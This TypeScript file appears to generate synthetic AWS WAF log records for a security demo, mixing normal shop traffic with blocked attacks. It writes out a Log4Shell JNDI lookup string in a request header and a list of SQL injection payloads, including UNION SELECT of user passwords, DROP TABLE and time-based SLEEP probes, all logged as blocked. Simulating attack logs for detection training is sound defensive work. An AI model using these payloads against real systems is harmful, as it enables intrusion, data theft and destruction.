// AWS WAF (WAFv2) web ACL log records, key order as WAF writes them (log-formats.md §2).
import type { Random } from '../random.js';
import type { World } from '../world.js';

export const WAF_LOG_GROUP = 'aws-waf-logs-demo';
export const WEB_ACL_NAME = 'DemoWebACL';
export const SHOP_HOST = 'shop.example.com';

/** The stream WAF names `Region_web-acl-name_log-stream-number`. */
export function wafStreamName(world: World): string {
  return `${world.region}_${WEB_ACL_NAME}_0`;
}

export interface Browser {
  userAgent: string;
  ja3Fingerprint: string;
  ja4Fingerprint: string;
}

/** Real user agents with a fixed TLS fingerprint each, as one client stack always produces the same JA3. */
export const BROWSERS: Browser[] = [
  {
    userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    ja3Fingerprint: 'cd08e31494f9531f560d64c695473da9', ja4Fingerprint: 't13d1516h2_8daaf6152771_02713d6af862',
  },
  {
    userAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
    ja3Fingerprint: '773906b0efdefa24a7f2b8eb6985bf37', ja4Fingerprint: 't13d2014h2_a09f3c656075_14788d8d241b',
  },
  {
    userAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
    ja3Fingerprint: '579ccef312d18482fc42e2b822ca2430', ja4Fingerprint: 't13d1715h2_5b57614c22b0_3d5424432f57',
  },
  {
    userAgent: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
    ja3Fingerprint: '773906b0efdefa24a7f2b8eb6985bf37', ja4Fingerprint: 't13d2014h2_a09f3c656075_14788d8d241b',
  },
];

export const SQLMAP: Browser = {
  userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)',
  ja3Fingerprint: '6734f37431670b3ab4292b8f60f29984', ja4Fingerprint: 't13d1812h1_85036bcba153_b26ce05bbdd6',
};

export const BAD_BOT: Browser = {
  userAgent: 'python-requests/2.31.0',
  ja3Fingerprint: '3b5074b1b5d032e5620f69f9f700ff0e', ja4Fingerprint: 't13d1812h1_85036bcba153_375ca2c5e164',
};

export interface WafRequest {
  timestamp: number;
  clientIp: string;
  country: string;
  method: string;
  uri: string;
  args: string;
  browser: Browser;
  /** Extra headers after the standard ones, e.g. Content-Type on a POST. */
  extraHeaders?: Array<{ name: string; value: string }>;
}

export interface WafDecision {
  terminatingRuleId: string;
  terminatingRuleType: 'REGULAR' | 'RATE_BASED' | 'GROUP' | 'MANAGED_RULE_GROUP';
  action: 'ALLOW' | 'BLOCK' | 'CAPTCHA' | 'CHALLENGE';
  terminatingRuleMatchDetails?: unknown[];
  ruleGroupList?: unknown[];
  rateBasedRuleList?: unknown[];
  nonTerminatingMatchingRules?: unknown[];
  responseCodeSent?: number | null;
  labels?: string[];
  captchaResponse?: { responseCode: number; solveTimestamp: number; failureReason?: string };
}

/** The ALB trace id root WAF logs as `requestId` for ALB sources. */
function traceId(random: Random, timestamp: number): string {
  return `1-${Math.floor(timestamp / 1000).toString(16)}-${random.hex(24)}`;
}

export function wafMessage(random: Random, world: World, request: WafRequest, decision: WafDecision): string {
  const headers = [
    { name: 'Host', value: SHOP_HOST },
    { name: 'User-Agent', value: request.browser.userAgent },
    { name: 'Accept', value: request.method === 'GET' ? 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' : 'application/json' },
    { name: 'Accept-Encoding', value: 'gzip, deflate, br' },
    { name: 'Accept-Language', value: 'en-US,en;q=0.9' },
    ...(request.extraHeaders ?? []),
  ];
  const record: Record<string, unknown> = {
    timestamp: request.timestamp,
    formatVersion: 1,
    webaclId: `arn:aws:wafv2:${world.region}:${world.accountId}:regional/webacl/${WEB_ACL_NAME}/3f2a6b1c-8d4e-4f5a-9b6c-7d8e9f0a1b2c`,
    terminatingRuleId: decision.terminatingRuleId,
    terminatingRuleType: decision.terminatingRuleType,
    action: decision.action,
    terminatingRuleMatchDetails: decision.terminatingRuleMatchDetails ?? [],
    httpSourceName: 'ALB',
    httpSourceId: `${world.accountId}-app/demo-alb/50dc6c495c0c9188`,
    ruleGroupList: decision.ruleGroupList ?? [],
    rateBasedRuleList: decision.rateBasedRuleList ?? [],
    nonTerminatingMatchingRules: decision.nonTerminatingMatchingRules ?? [],
    requestHeadersInserted: null,
    responseCodeSent: decision.responseCodeSent ?? null,
    httpRequest: {
      clientIp: request.clientIp,
      country: request.country,
      headers,
      uri: request.uri,
      args: request.args,
      httpVersion: 'HTTP/1.1',
      httpMethod: request.method,
      requestId: traceId(random, request.timestamp),
    },
    ...(decision.labels && decision.labels.length > 0 ? { labels: decision.labels.map((name) => ({ name })) } : {}),
    ...(decision.captchaResponse ? { captchaResponse: decision.captchaResponse } : {}),
    ja3Fingerprint: request.browser.ja3Fingerprint,
    ja4Fingerprint: request.browser.ja4Fingerprint,
  };
  return JSON.stringify(record);
}

/** The managed rule groups the demo web ACL runs, in evaluation order; WAF lists each that evaluated the request. */
function managedGroups(terminating?: { group: string; ruleId: string; action: string }, counted?: { group: string; ruleId: string }): unknown[] {
  const groups = ['AWS#AWSManagedRulesCommonRuleSet', 'AWS#AWSManagedRulesKnownBadInputsRuleSet'];
  return groups.map((ruleGroupId) => ({
    ruleGroupId,
    terminatingRule: terminating?.group === ruleGroupId ? { ruleId: terminating.ruleId, action: terminating.action, ruleMatchDetails: null } : null,
    nonTerminatingMatchingRules: counted?.group === ruleGroupId ? [{ ruleId: counted.ruleId, action: 'COUNT', ruleMatchDetails: null }] : [],
    excludedRules: null,
    customerConfig: null,
  }));
}

const PAGES = ['/', '/products', '/products/1042', '/products/2210', '/cart', '/static/app.js', '/static/site.css', '/search', '/account'];
const COUNTRIES = ['US', 'US', 'US', 'DE', 'GB', 'FR', 'CA', 'JP', 'BR', 'IN', 'AU'];

/** A benign client in 192.0.2.64–254 (RFC 5737; .1–.63 are the demo's own public addresses). */
export function benignClientIp(random: Random): string {
  return `192.0.2.${random.int(64, 254)}`;
}

/** A noisy internet host in 198.51.100.0/24, never the story's .77. */
export function noiseIp(random: Random): string {
  const host = random.int(1, 253);
  return `198.51.100.${host >= 77 ? host + 1 : host}`;
}

/** Background web traffic: mostly ALLOW, some COUNT, CAPTCHA, rate-based and managed-rule BLOCKs. */
export function backgroundWafMessage(random: Random, world: World, timestamp: number): string {
  const kind = random.weighted([['allow', 70], ['count', 10], ['captcha', 6], ['rate', 7], ['managed', 7]] as const);
  const base: WafRequest = {
    timestamp, clientIp: benignClientIp(random), country: random.pick(COUNTRIES), method: 'GET',
    uri: random.pick(PAGES), args: '', browser: random.pick(BROWSERS),
  };
  if (base.uri === '/search') base.args = `q=${random.pick(['shoes', 'red+jacket', 'gift+card', 'laptop+bag'])}`;
  switch (kind) {
    case 'allow':
      return wafMessage(random, world, base, { terminatingRuleId: 'Default_Action', terminatingRuleType: 'REGULAR', action: 'ALLOW', ruleGroupList: managedGroups() });
    case 'count': {
      // A large checkout body trips the size rule, which the demo runs in COUNT mode: logged, still allowed.
      const request = { ...base, method: 'POST', uri: '/checkout', extraHeaders: [{ name: 'Content-Type', value: 'application/json' }] };
      return wafMessage(random, world, request, {
        terminatingRuleId: 'Default_Action', terminatingRuleType: 'REGULAR', action: 'ALLOW',
        ruleGroupList: managedGroups(undefined, { group: 'AWS#AWSManagedRulesCommonRuleSet', ruleId: 'SizeRestrictions_BODY' }),
        labels: ['awswaf:managed:aws:core-rule-set:SizeRestrictions_Body'],
      });
    }
    case 'captcha': {
      const request = { ...base, method: 'POST', uri: '/login', extraHeaders: [{ name: 'Content-Type', value: 'application/x-www-form-urlencoded' }] };
      return wafMessage(random, world, request, {
        terminatingRuleId: 'LoginCaptcha', terminatingRuleType: 'REGULAR', action: 'CAPTCHA', ruleGroupList: managedGroups(),
        responseCodeSent: 405, labels: ['awswaf:captcha:missing-token'],
        captchaResponse: { responseCode: 405, solveTimestamp: 0, failureReason: 'TOKEN_MISSING' },
      });
    }
    case 'rate': {
      const clientIp = noiseIp(random);
      return wafMessage(random, world, { ...base, clientIp, browser: BAD_BOT, uri: '/products' }, {
        terminatingRuleId: 'RateLimitPerIP', terminatingRuleType: 'RATE_BASED', action: 'BLOCK',
        rateBasedRuleList: [{
          rateBasedRuleId: 'a1b2c3d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d', rateBasedRuleName: 'RateLimitPerIP',
          limitKey: 'IP', maxRateAllowed: 100, evaluationWindowSec: '300', limitValue: clientIp,
        }],
        labels: ['awswaf:' + world.accountId + ':webacl:' + WEB_ACL_NAME + ':rule:RateLimitPerIP'],
      });
    }
    default: {
      // Log4Shell probes in a header: the KnownBadInputs managed group terminates with BLOCK.
      const request = { ...base, clientIp: noiseIp(random), browser: BAD_BOT, extraHeaders: [{ name: 'X-Api-Version', value: '${jndi:ldap://198.51.100.9:1389/a}' }] };
      return wafMessage(random, world, request, {
        terminatingRuleId: 'AWS-AWSManagedRulesKnownBadInputsRuleSet', terminatingRuleType: 'MANAGED_RULE_GROUP', action: 'BLOCK',
        ruleGroupList: managedGroups({ group: 'AWS#AWSManagedRulesKnownBadInputsRuleSet', ruleId: 'Log4JRCE_HEADER', action: 'BLOCK' }),
        labels: ['awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header'],
      });
    }
  }
}

const SQLI_PAYLOADS: Array<{ uri: string; args: string; matched: string[] }> = [
  { uri: '/products', args: "id=1%27%20OR%20%271%27%3D%271", matched: ['1', "'", 'OR', "'1'", '=', "'1"] },
  { uri: '/products', args: 'id=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--', matched: ['1', 'UNION', 'SELECT', 'username', ',', 'password', 'FROM', 'users'] },
  { uri: '/search', args: "q=shoes%27%3B%20DROP%20TABLE%20orders%3B--", matched: ['shoes', "'", ';', 'DROP', 'TABLE', 'orders'] },
  { uri: '/account', args: 'user=admin%27--', matched: ['admin', "'", '--'] },
  { uri: '/products', args: 'id=1%20AND%20SLEEP(5)', matched: ['1', 'AND', 'SLEEP', '(', '5', ')'] },
];

/** The story's SQL-injection attempt: terminating BLOCK by the web ACL's own SQLi rule. */
export function sqlInjectionMessage(random: Random, world: World, timestamp: number, clientIp: string, country: string, attempt: number): string {
  const payload = SQLI_PAYLOADS[attempt % SQLI_PAYLOADS.length] ?? SQLI_PAYLOADS[0]!;
  return wafMessage(random, world, { timestamp, clientIp, country, method: 'GET', uri: payload.uri, args: payload.args, browser: SQLMAP }, {
    terminatingRuleId: 'SQLInjectionBlock', terminatingRuleType: 'REGULAR', action: 'BLOCK',
    terminatingRuleMatchDetails: [{ conditionType: 'SQL_INJECTION', sensitivityLevel: 'HIGH', location: 'QUERY_STRING', matchedData: payload.matched }],
    ruleGroupList: managedGroups(),
    labels: ['awswaf:' + world.accountId + ':webacl:' + WEB_ACL_NAME + ':rule:SQLInjectionBlock'],
  });
}
